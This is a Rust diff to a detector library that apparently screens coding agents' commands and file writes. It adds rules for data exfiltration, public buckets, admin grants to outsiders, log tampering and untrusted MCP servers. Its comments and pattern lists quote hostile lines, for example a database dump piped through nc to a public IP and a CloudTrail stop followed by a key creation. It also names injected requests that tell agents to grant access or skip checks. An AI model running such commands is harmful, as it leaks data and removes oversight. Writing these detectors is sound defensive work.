@@ -206,6 +206,18 @@ pub static MODEL: &[DetectorDef] = &[
       "Writes standing orders that lift an agent's safeguards",
       "The file is one coding agents load as their instructions (AGENTS.md, CLAUDE.md, .cursorrules and the like), and the text tells them to act without asking, to skip or get around approval, hooks or security checks: every later session starts with its safeguards talked away.",
       "Keep agent instructions to how the project works; decide what runs unasked in the agent's own permission settings, yourself."),
+    d!("exf.data-made-public", DataExfiltration, Critical,
+      "Makes stored data readable by anyone",
+      "A bucket, container or snapshot that holds backups, exports or customer data is opened to everyone (a public ACL, allUsers, a snapshot shared with all accounts): anyone who finds the name can copy it.",
+      "Share with the named account that needs it, or publish only a site's assets."),
+    d!("priv.admin-to-outsider", PrivilegeEscalation, Critical,
+      "Gives full control to an identity outside the organisation",
+      "An owner or administrator role, a wildcard policy or cluster-admin is granted to a personal mailbox or another cloud account: whoever holds it controls this account from outside.",
+      "Grant the narrow role the task needs, to an identity your organisation manages."),
+    d!("exf.data-to-socket", DataExfiltration, Critical,
+      "Streams a dump or archive to a bare address",
+      "A database dump, a backup or an archive is piped into a raw socket (nc, socat, telnet) towards a public IP address: no service, no record, only a copy somewhere else.",
+      "Copy backups with the storage tool your organisation uses."),
 ];
 
 mod ix {
@@ -256,6 +268,9 @@ mod ix {
     pub const AGENT_RULES: usize = 46;
     pub const ADMIN_PROMPT: usize = 40;
     pub const DISRUPTION: usize = 41;
+    pub const DATA_PUBLIC: usize = 47;
+    pub const ADMIN_OUTSIDER: usize = 48;
+    pub const DATA_SOCKET: usize = 49;
 }
 
 fn hit(out: &mut Vec<Match>, i: usize) {
@@ -1306,6 +1321,31 @@ pub fn run(coach: &Coach, v: &Views, depth: usize, out: &mut Vec<Match>) {
                 _ => false,
             }
     });
+    // Audit, logs, history or a firewall turned off in the same call as a
+    // credential, privilege, persistence or exfiltration step: covering
+    // tracks for that step (`aws cloudtrail stop-logging && aws iam
+    // create-access-key …`).
+    const EVASION: &[&str] = &[
+        "def.cloud-logging-off",
+        "net.firewall-off",
+        "dst.log-tamper",
+        "dst.log-wipe-find",
+        "def.kill-security-tool",
+        "def.timestomp",
+    ];
+    let covers = out.iter().any(|m| EVASION.contains(&m.pattern_id))
+        && out.iter().any(|m| {
+            m.severity >= High
+                && !EVASION.contains(&m.pattern_id)
+                // The switch-off's own other names (a security setting
+                // changed) are the same step.
+                && !m.pattern_id.starts_with("def.")
+                && matches!(
+                    m.category,
+                    CredentialExposure | PrivilegeEscalation | PersistenceMechanism | DataExfiltration
+                )
+        });
+    let risky = risky || covers;
     let critical = out.iter().any(|m| m.severity == Critical);
     // Only for the call itself: a payload judged inside a write is the
     // write detectors' business.
@@ -1682,32 +1722,60 @@ fn text_of(coach: &Coach, t: &str, depth: usize, out: &mut Vec<Match>) {
                 "configuration"
             ]
         );
-    let unprotect = any_of!(
-        l,
-        [
-            "turn off",
-            "disable",
-            "remove",
-            "bypass",
-            "skip",
-            "switch off"
-        ]
-    ) && any_of!(
-        l,
-        [
-            "status check",
-            "branch protection",
-            "required review",
-            "secret-scanning",
-            "secret scanning",
-            "code scanning",
-            "required check",
-            "ci check",
-            "require review",
-            "review rule",
-            "ruleset",
-        ]
-    );
+    // Access handed out on a message's say-so ("add quick-fix-bot as an
+    // admin collaborator").
+    let grants_access = any_of!(l, ["add ", "grant", "give ", "invite"])
+        && any_of!(
+            l,
+            [
+                "as an admin",
+                "admin collaborator",
+                "admin access",
+                "owner access",
+                "as an owner",
+                "as a maintainer",
+                "write access",
+                "push access"
+            ]
+        );
+    let unprotect = grants_access
+        || any_of!(
+            l,
+            [
+                "turn off",
+                "turning off",
+                "disabling",
+                "switching off",
+                "disable",
+                "remove",
+                "bypass",
+                "skip",
+                "switch off"
+            ]
+        ) && any_of!(
+            l,
+            [
+                "status check",
+                "branch protection",
+                "required review",
+                "secret-scanning",
+                "secret scanning",
+                "code scanning",
+                "required check",
+                "ci check",
+                "require review",
+                "review rule",
+                "ruleset",
+                "guardduty",
+                "cloudtrail",
+                "security hub",
+                "audit log",
+                "defender",
+                "the edr",
+                "antivirus",
+                "the firewall",
+            ]
+        );
     if (addresses || weak) && INJECTED_ACTIONS_N.any(&l) {
         hit(out, ix::INJECTION);
     } else if addresses
@@ -2136,6 +2204,7 @@ fn run_script(coach: &Coach, script: &shell::Script, depth: usize, out: &mut Vec
     let mut written: Vec<(String, String)> = Vec::new();
     let mut encrypts = false;
     let mut deletes_many = false;
+    data_to_socket(segs, out);
     for s in segs {
         let cmd = s.cmd.as_str();
         // Secret files staged into git (`git add -f .env`) leave with a push
@@ -2357,6 +2426,44 @@ fn run_script(coach: &Coach, script: &shell::Script, depth: usize, out: &mut Vec
                 read_secret = true;
             }
         }
+        // A login with a key staged in a hidden temporary folder: someone
+        // else's key, put there to move to another machine.
+        if matches!(cmd, "ssh" | "scp" | "sftp" | "rsync")
+            && s.args
+                .windows(2)
+                .any(|w| w[0] == "-i" && hidden_temp_path(&w[1]))
+        {
+            hit(out, ix::CRED_READ);
+        }
+        // A service-account token minted for an admin account, in the
+        // control plane's namespace, or for a day or more (a short one for
+        // a CI job is routine).
+        if cmd == "kubectl"
+            && s.args
+                .windows(2)
+                .any(|w| w[0] == "create" && w[1] == "token")
+        {
+            let line = s.args.join(" ");
+            let long = s.args.iter().any(|a| {
+                let d = a.strip_prefix("--duration=").unwrap_or("");
+                d.strip_suffix('h')
+                    .and_then(|h| h.parse::<u32>().ok())
+                    .is_some_and(|h| h >= 24)
+            });
+            if long || line.has("kube-system") || line.has("admin") {
+                hit(out, ix::CRED_READ);
+                read_secret = true;
+            }
+        }
+        // A Consul ACL token with the management policy: root of the
+        // service mesh, printed.
+        if cmd == "consul"
+            && s.args.join(" ").has("acl token create")
+            && s.args.iter().any(|a| a.has("management"))
+        {
+            hit(out, ix::CRED_READ);
+            read_secret = true;
+        }
         // `git credential fill` prints a stored password or token.
         if cmd == "git"
             && s.args
@@ -2392,6 +2499,14 @@ fn run_script(coach: &Coach, script: &shell::Script, depth: usize, out: &mut Vec
                 "create-service-specific-credential",
                 "keys create",
                 "Environment.Variables",
+                // Secret stores' reads: the value is the output.
+                "kv get",
+                "secrets versions access",
+                "get-secret-value",
+                "storage account keys list",
+                "keyvault secret show",
+                "get-parameter --with-decryption",
+                "get-parameters --with-decryption",
             ]
             .iter()
             .any(|k| line.has(k))
@@ -2884,6 +2999,33 @@ fn deletion(s: &Segment, out: &mut Vec<Match>, many: &mut bool) {
     if cmd == "rm" || cmd == "shred" || cmd == "unlink" || cmd == "srm" {
         *many |= s.operands().any(|o| o.contains('$') || o.contains('*')) || recursive;
     }
+    // `rm -rf "$DIR/"*` with DIR unset is `rm -rf /*`; `${DIR:?}` guards it.
+    if cmd == "rm" && recursive {
+        let unguarded = s.operands().any(|o| {
+            let o = o.trim_matches('"');
+            let Some(rest) = o.strip_prefix('$') else {
+                return false;
+            };
+            let (name, tail) = match rest.strip_prefix('{') {
+                Some(r) => match r.split_once('}') {
+                    Some((n, t)) => (n, t),
+                    None => return false,
+                },
+                None => {
+                    let n = rest
+                        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+                        .unwrap_or(rest.len());
+                    (&rest[..n], &rest[n..])
+                }
+            };
+            !name.is_empty()
+                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+                && matches!(tail.trim_matches('"'), "/" | "/*" | "/\"*")
+        });
+        if unguarded {
+            hit(out, ix::DELETE_CONFIG);
+        }
+    }
     if recursive || cmd == "shred" {
         for o in s.operands() {
             if cmd == "rm" && (o == "/" || o == "/*" || home_rel(o) == Some("")) {
@@ -3355,10 +3497,77 @@ const KNOWN_PACKAGE_HOSTS: &[&str] = &[
 /// Writes that weaken a project's own gates, or point its lockfile at an
 /// unfamiliar host (shell edits and write tools alike; `data` is the text
 /// written, or a `sed -i` replacement).
+/// MCP client configurations: each server listed there is a program the
+/// agent starts with its own rights.
+fn is_mcp_config(p: &str) -> bool {
+    let name = p.rsplit('/').next().unwrap_or(p);
+    matches!(
+        name,
+        ".mcp.json" | "mcp.json" | "mcp_config.json" | "claude_desktop_config.json"
+    )
+}
+
+/// A server in an MCP configuration fetched at start from a package
+/// registry outside the protocol's own scope (`npx -y some-tool@latest`,
+/// `uvx pkg`, `npx github:user/repo`), or run from a temporary folder:
+/// code nobody reviewed, run with the agent's rights on every start.
+fn mcp_server_untrusted(data: &str) -> bool {
+    let Ok(v) = serde_json::from_str::<serde_json::Value>(data) else {
+        return false;
+    };
+    let servers = v
+        .get("mcpServers")
+        .or_else(|| v.get("servers"))
+        .and_then(|s| s.as_object());
+    let Some(servers) = servers else { return false };
+    servers.values().take(64).any(|srv| {
+        let cmd = srv.get("command").and_then(|c| c.as_str()).unwrap_or("");
+        let args: Vec<&str> = srv
+            .get("args")
+            .and_then(|a| a.as_array())
+            .map(|a| a.iter().filter_map(|x| x.as_str()).collect())
+            .unwrap_or_default();
+        let base = cmd.rsplit('/').next().unwrap_or(cmd);
+        if ["/tmp/", "/var/tmp/", "/dev/shm/"]
+            .iter()
+            .any(|t| cmd.starts_with(t))
+        {
+            return true;
+        }
+        if !matches!(
+            base,
+            "npx" | "bunx" | "pnpx" | "uvx" | "pipx" | "pnpm" | "yarn"
+        ) {
+            return false;
+        }
+        let pkg = args
+            .iter()
+            .find(|a| !a.starts_with('-') && !matches!(**a, "dlx" | "run" | "exec"));
+        pkg.is_some_and(|p| {
+            !p.starts_with("@modelcontextprotocol/")
+                && !p.starts_with("mcp-server-fetch")
+                && !p.starts_with("mcp-server-git")
+                && !p.starts_with("mcp-server-time")
+        })
+    })
+}
+
 pub fn checks_write(path: &str, data: &str, out: &mut Vec<Match>) {
     let p = path.to_ascii_lowercase();
     let name = p.rsplit('/').next().unwrap_or(&p);
     let l = data.to_ascii_lowercase();
+    if is_mcp_config(&p) && mcp_server_untrusted(data) {
+        hit(out, ix::UNTRUSTED_CODE);
+    }
+    // An admission webhook sees (a mutating one rewrites) every object the
+    // cluster admits; one served from a URL outside the cluster hands that
+    // to whoever runs the URL.
+    if (l.contains("kind: mutatingwebhookconfiguration")
+        || l.contains("kind: validatingwebhookconfiguration"))
+        && l.contains("url:")
+    {
+        hit(out, ix::SECURITY_CHANGE);
+    }
     const LOCKFILES: &[&str] = &[
         "yarn.lock",
         "package-lock.json",
@@ -4617,8 +4826,259 @@ fn git_credential_helper_sends(s: &Segment, out: &mut Vec<Match>) {
     }
 }
 
+/// Names that say a store holds data, not a site's assets.
+fn data_store_name(n: &str) -> bool {
+    let n = n.to_ascii_lowercase();
+    [
+        "backup", "dump", "export", "customer", "user", "invoice", "billing", "payment", "db",
+        "database", "prod", "private", "internal", "finance", "hr-", "payroll", "records",
+        "archive", "logs", "secret", "snapshot", "data",
+    ]
+    .iter()
+    .any(|k| n.contains(k))
+        && ![
+            "static", "assets", "public", "website", "www", "cdn", "site", "media", "images",
+        ]
+        .iter()
+        .any(|k| n.contains(k))
+}
+
+/// An identity outside the organisation: a personal mailbox.
+fn personal_mailbox(a: &str) -> bool {
+    let l = a.to_ascii_lowercase();
+    [
+        "@gmail.com",
+        "@googlemail.com",
+        "@outlook.com",
+        "@hotmail.com",
+        "@live.com",
+        "@yahoo.",
+        "@proton.me",
+        "@protonmail.",
+        "@icloud.com",
+        "@me.com",
+        "@gmx.",
+        "@mail.ru",
+        "@yandex.",
+        "@aol.com",
+        "@tutanota.",
+    ]
+    .iter()
+    .any(|d| l.contains(d))
+}
+
+/// A public IPv4 address (not loopback, private, link-local or unset).
+fn public_ipv4(h: &str) -> bool {
+    h.parse::<std::net::Ipv4Addr>().is_ok_and(|ip| {
+        !(ip.is_loopback() || ip.is_private() || ip.is_link_local() || ip.is_unspecified())
+    })
+}
+
+/// The host a raw-socket client connects to: `nc [opts] HOST PORT`,
+/// `socat - TCP:HOST:PORT`, `telnet HOST PORT`.
+fn socket_peer(s: &Segment) -> Option<&str> {
+    match s.cmd.as_str() {
+        "nc" | "ncat" | "netcat" | "telnet" => {
+            if s.has_flag('l', "--listen") {
+                return None;
+            }
+            s.operands().map(|o| o.as_str()).find(|o| o.contains('.'))
+        }
+        "socat" => s.args.iter().find_map(|a| {
+            let l = a.to_ascii_lowercase();
+            let rest = ["tcp:", "tcp4:", "udp:", "openssl:"]
+                .iter()
+                .find_map(|p| l.starts_with(p).then(|| &a[p.len()..]))?;
+            rest.split(':').next()
+        }),
+        _ => None,
+    }
+}
+
+/// `pg_dumpall | gzip | nc 203.0.113.9 9000`: a dump, a backup or an
+/// archive streamed into a raw socket towards a public address.
+fn data_to_socket(segs: &[Segment], out: &mut Vec<Match>) {
+    const PRODUCERS: &[&str] = &[
+        "pg_dump",
+        "pg_dumpall",
+        "mysqldump",
+        "mariadb-dump",
+        "mongodump",
+        "mongoexport",
+        "sqlite3",
+        "etcdctl",
+        "tar",
+        "zip",
+        "7z",
+        "gzip",
+        "pigz",
+        "xz",
+        "zstd",
+        "bzip2",
+        "dd",
+    ];
+    for (j, t) in segs.iter().enumerate() {
+        let Some(peer) = socket_peer(t) else { continue };
+        if !public_ipv4(peer) {
+            continue;
+        }
+        let fed = segs[..j].iter().any(|u| {
+            u.pipeline == t.pipeline
+                && (PRODUCERS.contains(&u.cmd.as_str())
+                    // A cloud or cluster copy to standard output.
+                    || matches!(u.cmd.as_str(), "aws" | "gsutil" | "rclone" | "az" | "kubectl")
+                        && (u.args.iter().any(|a| a == "-" || a == "cat")
+                            || u.args.iter().any(|a| a == "exec")))
+        });
+        if fed {
+            hit(out, ix::DATA_SOCKET);
+            return;
+        }
+    }
+}
+
+/// Cloud data exposed to everyone, and full control handed outside.
+fn cloud_exposure(s: &Segment, out: &mut Vec<Match>) {
+    let cmd = s.cmd.as_str();
+    let line = s.args.join(" ");
+    let l = line.to_ascii_lowercase();
+    let has = |k: &str| l.contains(k);
+    // The store the call names: a bucket, container or snapshot id.
+    let named = |flags: &[&str]| {
+        s.args
+            .windows(2)
+            .find(|w| flags.contains(&w[0].as_str()))
+            .map(|w| w[1].clone())
+            .or_else(|| {
+                s.args
+                    .iter()
+                    .find(|a| a.starts_with("s3://") || a.starts_with("gs://"))
+                    .cloned()
+            })
+            .unwrap_or_default()
+    };
+    let public = match cmd {
+        "aws" => {
+            (has("put-bucket-acl") || has("put-object-acl") || has("s3 cp") || has("s3 sync"))
+                && (has("public-read") || has("authenticated-read"))
+                && data_store_name(&named(&["--bucket"]))
+                || (has("modify-db-snapshot-attribute")
+                    || has("modify-db-cluster-snapshot-attribute"))
+                    && has("--values-to-add all")
+                || has("modify-snapshot-attribute") && has("--group-names all")
+                || has("modify-image-attribute")
+                    && has("--group-names all")
+                    && data_store_name(&line)
+        }
+        "gsutil" => {
+            (has("allusers") || has("allauthenticatedusers"))
+                && (has("iam ch") || has("acl ch") || has("acl set"))
+                && data_store_name(&named(&[]))
+        }
+        "gcloud" => {
+            (has("allusers") || has("allauthenticatedusers"))
+                && has("add-iam-policy-binding")
+                && has("buckets")
+                && data_store_name(&line)
+        }
+        "az" => {
+            has("--public-access")
+                && (has("--public-access container") || has("--public-access blob"))
+                && data_store_name(&named(&["--name", "-n"]))
+        }
+        "s3cmd" => has("--acl-public") && data_store_name(&named(&[])),
+        _ => false,
+    };
+    if public {
+        hit(out, ix::DATA_PUBLIC);
+    }
+    // Owner, admin or a wildcard policy granted to a personal mailbox.
+    let admin_role = has("roles/owner")
+        || has("roles/editor")
+        || has("roles/iam.serviceaccounttokencreator")
+        || has("administratoraccess")
+        || has("--role owner")
+        || has("--role 'owner'")
+        || has("--role \"owner\"")
+        || has("--role=owner")
+        || has("\"action\":\"*\"")
+        || has("\"action\": \"*\"")
+        || has("system:masters")
+        || has("cluster-admin");
+    let grants = matches!(cmd, "gcloud" | "aws" | "az" | "kubectl" | "eksctl")
+        && (has("add-iam-policy-binding")
+            || has("attach-user-policy")
+            || has("put-user-policy")
+            || has("role assignment create")
+            || has("create-login-profile")
+            || has("clusterrolebinding")
+            || has("iamidentitymapping")
+            || has("aws-auth"));
+    if grants && admin_role && s.args.iter().any(|a| personal_mailbox(a)) {
+        hit(out, ix::ADMIN_OUTSIDER);
+    } else if (grants || cmd == "kubectl" && (has("patch") || has("edit")) && has("aws-auth"))
+        && has("system:masters")
+    {
+        // A role mapped to cluster-admin: who holds it is the owner's call.
+        hit(out, ix::SECURITY_CHANGE);
+    }
+    // The cluster's whole store removed (`etcdctl del "" --prefix`), or
+    // read out key by key.
+    if cmd == "etcdctl" && has("--prefix") {
+        let key = s
+            .operands()
+            .nth(1)
+            .map(|k| k.trim_matches(|c| c == '"' || c == '\''));
+        if s.args.first().is_some_and(|a| a == "del")
+            && key.is_some_and(|k| k.is_empty() || k == "/")
+        {
+            hit(out, ix::DELETE_IMPORTANT);
+        } else if s.args.first().is_some_and(|a| a == "get") {
+            hit(out, ix::CRED_READ);
+        }
+    }
+    // Production scaled to nothing, or a database replaced in place.
+    if cmd == "aws"
+        && has("update-auto-scaling-group")
+        && has("--max-size 0")
+        && has("--desired-capacity 0")
+        || cmd == "terraform"
+            && s.args.iter().any(|a| {
+                a.strip_prefix("-replace=").is_some_and(|r| {
+                    [
+                        "db_instance",
+                        "rds",
+                        "sql_database",
+                        "database",
+                        "dynamodb",
+                        "bucket",
+                    ]
+                    .iter()
+                    .any(|k| r.contains(k))
+                })
+            })
+    {
+        hit(out, ix::DISRUPTION);
+    }
+}
+
 fn system_changes(s: &Segment, out: &mut Vec<Match>) {
     git_url_rewrite(s, out);
+    cloud_exposure(s, out);
+    // TLS checks off for every later fetch, or git's command-running
+    // transport switched on.
+    {
+        let l = s.args.join(" ").to_ascii_lowercase();
+        let tls_off = s.cmd == "git"
+            && l.contains("http.sslverify")
+            && (l.contains("false") || l.contains(" 0"))
+            || matches!(s.cmd.as_str(), "npm" | "yarn" | "pnpm")
+                && l.contains("strict-ssl")
+                && l.contains("false");
+        if tls_off || s.cmd == "git" && l.contains("protocol.ext.allow=always") {
+            hit(out, ix::SECURITY_CHANGE);
+        }
+    }
     let cmd = s.cmd.as_str();
     let line = s.args.join(" ");
     let has = |ks: &[&str]| ks.iter().any(|k| line.has(k));
@@ -5288,9 +5748,100 @@ fn quoted_strings(code: &str) -> Vec<String> {
 
 /// A file written with `text`: dangerous content is a weaponised payload
 /// wherever it lands (the detectors of persistence places judge those).
+/// Values in configuration files that the tool runs as a command: cargo's
+/// `runner`/`rustc-wrapper`/`linker`, npm's `script-shell`, git's
+/// `sshCommand`/`fsmonitor`/`pager`/`editor`/`askPass` and `!` aliases and
+/// helpers, a `.gitmodules` URL over the `ext::` transport (at most eight).
+fn config_commands(path: &str, text: &str) -> Vec<String> {
+    let p = path.to_ascii_lowercase();
+    let name = p.rsplit('/').next().unwrap_or(&p);
+    let keys: &[&str] = if p.ends_with(".cargo/config.toml") || p.ends_with(".cargo/config") {
+        &[
+            "runner",
+            "rustc-wrapper",
+            "rustc-workspace-wrapper",
+            "linker",
+        ]
+    } else if p.ends_with(".aws/config") {
+        &["credential_process"]
+    } else if name == ".npmrc" || name == ".yarnrc" {
+        &["script-shell", "shell"]
+    } else if name == ".gitconfig" || p.ends_with(".git/config") || name == ".gitmodules" {
+        &[
+            "sshcommand",
+            "fsmonitor",
+            "pager",
+            "editor",
+            "askpass",
+            "helper",
+            "url",
+            "textconv",
+            "clean",
+            "smudge",
+            "process",
+        ]
+    } else {
+        return Vec::new();
+    };
+    let mut out = Vec::new();
+    for line in text.lines().take(2000) {
+        let Some((k, v)) = line.split_once('=') else {
+            continue;
+        };
+        let k = k.trim().trim_matches('"').to_ascii_lowercase();
+        let k = k.rsplit('.').next().unwrap_or(&k);
+        let alias = p.contains("git") && v.trim_start().starts_with('!');
+        if !keys.contains(&k) && !alias {
+            continue;
+        }
+        let mut v = v.trim().trim_matches(|c| c == '"' || c == '\'').to_string();
+        if k == "url" {
+            // git's ext transport runs its command: words split at spaces,
+            // `% ` a space inside a word; `sh -c SCRIPT` runs SCRIPT.
+            let Some(cmd) = v.strip_prefix("ext::") else {
+                continue;
+            };
+            let mut words = vec![String::new()];
+            let mut chars = cmd.chars().peekable();
+            while let Some(c) = chars.next() {
+                match c {
+                    '%' if chars.peek() == Some(&' ') => {
+                        chars.next();
+                        words.last_mut().unwrap_or(&mut String::new()).push(' ');
+                    }
+                    ' ' => words.push(String::new()),
+                    c => words.last_mut().unwrap_or(&mut String::new()).push(c),
+                }
+            }
+            words.retain(|w| !w.is_empty());
+            v = match words.iter().position(|w| w == "-c") {
+                Some(i) if i > 0 && shell::is_shell(&shell::basename(&words[0])) => {
+                    words.get(i + 1).cloned().unwrap_or_default()
+                }
+                _ => words.join(" "),
+            };
+        }
+        let v = v.trim_start_matches('!').to_string();
+        if !v.is_empty() && out.len() < 8 {
+            out.push(v);
+        }
+    }
+    out
+}
+
 fn written_script(coach: &Coach, path: &str, text: &str, depth: usize, out: &mut Vec<Match>) {
     if depth >= 2 || text.trim().is_empty() {
         return;
+    }
+    for cmd in config_commands(path, text) {
+        let inner = quoted_command(coach, &cmd, depth);
+        if inner.iter().any(|m| m.severity == Critical) {
+            hit(out, ix::WRITTEN_PAYLOAD);
+            return;
+        }
+        if inner.iter().any(|m| m.severity >= High) {
+            hit(out, ix::SHELL_THROUGH);
+        }
     }
     // Documentation and data files may quote a dangerous line; a script
     // (by name, shebang or place) is what runs.
@@ -5302,6 +5853,8 @@ fn written_script(coach: &Coach, path: &str, text: &str, depth: usize, out: &mut
         ]
         .iter()
         .any(|e| name.ends_with(e))
+        // Cargo runs build.rs on every build.
+        || name == "build.rs"
         || !name.contains('.')
         || name.starts_with('.') && !name[1..].contains('.');
     if !runnable {
@@ -5318,6 +5871,10 @@ fn written_script(coach: &Coach, path: &str, text: &str, depth: usize, out: &mut
         (".pl", "perl -e"),
         (".js", "node -e"),
         (".php", "php -r"),
+        // A Rust build script is judged through its process calls
+        // (`Command::new("sh").args(["-c", …])`), which the one-liner
+        // reader of any interpreter finds.
+        ("build.rs", "perl -e"),
     ]
     .iter()
     .find(|(ext, _)| {
@@ -5956,6 +6513,9 @@ mod tests {
             (ix::CAPTURE_SENT, "exf.capture-sent"),
             (ix::CHECKS_OFF, "def.checks-disabled"),
             (ix::AGENT_RULES, "soc.agent-rules-override"),
+            (ix::DATA_PUBLIC, "exf.data-made-public"),
+            (ix::ADMIN_OUTSIDER, "priv.admin-to-outsider"),
+            (ix::DATA_SOCKET, "exf.data-to-socket"),
         ];
         assert_eq!(
             table.len(),
